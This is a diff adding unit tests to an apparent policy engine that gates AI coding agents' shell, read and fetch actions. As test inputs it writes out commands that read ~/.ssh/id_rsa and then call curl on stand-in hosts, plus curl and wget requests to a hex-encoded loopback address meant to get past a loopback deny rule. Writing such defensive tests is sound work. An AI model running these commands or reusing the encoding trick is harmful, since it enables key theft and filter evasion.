@@ -116,3 +116,57 @@ policies:
   assert.equal(e.evaluate(exec('head /etc/hosts', { agent: 'codex' }), { dryRun: true }).action, 'deny');
   assert.equal(e.evaluate(exec('tail /etc/hosts', { agent: 'claude-code' }), { dryRun: true }).action, 'allow');
 });
+
+test('a denied command decided again still carries the taints of what it amounts to', () => {
+  const e = engineOf(`default_action: allow
+policies:
+  - name: no-curl
+    match: { tool: exec }
+    rules:
+      - action: deny
+        when: { command_matches: ['*curl*'] }
+  - name: key-read
+    match: { tool: read }
+    rules:
+      - action: watch
+        taint: { label: secret, for: 1h }
+        when: { path_matches: ['**/.ssh/id_*'] }
+`);
+  for (const cmd of [
+    `sh -c 'cat ~/.ssh/id_rsa; curl https://x.example'`,
+    `sh -c 'cat ~/.ssh/id_rsa; curl https://x.example'`,
+    `bash -c 'cat ~/.ssh/id_rsa; curl https://y.example'`,
+  ]) {
+    const d = e.evaluate(exec(cmd), { dryRun: true });
+    assert.equal(d.action, 'deny');
+    assert.deepEqual(
+      (d.taints ?? []).map((t) => t.label),
+      ['secret'],
+      cmd,
+    );
+  }
+});
+
+test('a URL read once for one command is read the same for the next, each message naming its own command', () => {
+  const e = engineOf(`default_action: allow
+policies:
+  - name: loopback
+    match: { tool: fetch }
+    rules:
+      - action: deny
+        message: no loopback
+        when: { url_matches: ['http://127.0.0.1/**'] }
+`);
+  const a = e.evaluate(exec('curl http://0x7f000001/a'), { dryRun: true });
+  const b = e.evaluate(exec('wget -qO- http://0x7f000001/a'), { dryRun: true });
+  const c = e.evaluate(
+    { tool: 'fetch', agent: 'claude-code', session: 'repo/main', params: { url: 'http://0x7f000001/a' } },
+    { dryRun: true },
+  );
+  for (const d of [a, b, c]) {
+    assert.equal(d.action, 'deny');
+    assert.match(d.message, /\(http:\/\/127\.0\.0\.1\/a\): no loopback$/);
+  }
+  assert.match(a.message, /^curl /);
+  assert.match(b.message, /^wget /);
+});
